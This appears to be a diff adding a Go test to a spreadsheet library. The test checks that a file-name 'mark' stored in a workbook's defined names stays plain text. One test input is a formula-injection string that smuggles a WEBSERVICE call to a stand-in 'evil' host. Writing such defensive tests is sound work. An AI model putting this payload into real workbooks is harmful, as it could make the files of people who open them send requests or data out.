@@ -2,6 +2,7 @@ package sheet
 
 import (
 	"errors"
+	"path/filepath"
 	"strings"
 	"testing"
 
@@ -94,6 +95,33 @@ func TestARelationIsCopiedAsItWasUnderstood(t *testing.T) {
 		copied := parts(t, to)
 		if text := copied["xl/worksheets/_rels/sheet1.xml.rels"]; strings.Contains(text, "evil") || strings.Contains(text, "External") || !strings.Contains(text, plain) || copied["xl/drawings/drawing1.xml"] == "" {
 			t.Errorf("%s: %s", name, text)
+		}
+	}
+}
+
+// TestAMarkIsATextWhateverTheFileIsCalled: it holds the name of somebody's file,
+// and stands where a workbook keeps a formula.
+func TestAMarkIsATextWhateverTheFileIsCalled(t *testing.T) {
+	for mark, want := range map[string]string{
+		`prod|a"&WEBSERVICE("http:evil")&"b`: "prod|a&WEBSERVICE(http:evil)&b", "prod|<&>'\x1b": "prod|<&>'\uFFFD", "prod|" + strings.Repeat("账", 300): "prod|" + strings.Repeat("账", 250),
+	} {
+		b := book("x")
+		b.Mark(mark)
+		whole := filepath.Join(t.TempDir(), "x.xlsx")
+		copied, err := spliced(t, accountants(t), "账单'一", func(s *Splice) { s.Mark = mark })
+		if err := errors.Join(err, b.Save(whole)); err != nil {
+			t.Fatal(err)
+		}
+		for _, path := range []string{whole, copied} {
+			var value string
+			for _, name := range openBook(t, path).GetDefinedName() {
+				if name.Name == markName {
+					value = name.RefersTo
+				}
+			}
+			if file, err := Open(path, ""); err != nil || file.Mark() != want || value != `"`+want+`"` {
+				t.Errorf("%q: %v, %q", mark, err, value)
+			}
 		}
 	}
 }
